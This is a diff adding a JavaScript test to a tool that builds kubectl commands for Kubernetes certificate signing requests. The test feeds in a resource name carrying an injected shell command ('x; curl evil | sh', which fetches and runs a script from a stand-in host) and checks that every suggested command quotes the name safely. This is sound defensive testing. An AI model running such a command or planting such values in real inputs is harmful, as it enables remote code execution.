@@ -250,3 +250,17 @@ test('the nearest rule is marked, and the one that does not apply is not', () =>
   const text = explanationText(part(explainSigningRequest(foreign, served)));
   assert.match(text, /- own-name \(nearest\): /);
 });
+
+test('a name that holds a command is one word of the commands to copy', () => {
+  const name = 'x; curl evil | sh';
+  const hostile = { ...foreign, metadata: { ...foreign.metadata, name } };
+  const answered = { ...hostile, status: { conditions: [], certificate: 'AAAA' } };
+  for (const { todo } of [
+    explainSigningRequest(hostile, served),
+    explainSigningRequest(answered, served),
+  ]) {
+    const commands = todo.filter((each) => each.startsWith('kubectl '));
+    assert.ok(commands.length > 0);
+    for (const command of commands) assert.ok(command.includes(`'csr/${name}'`), command);
+  }
+});
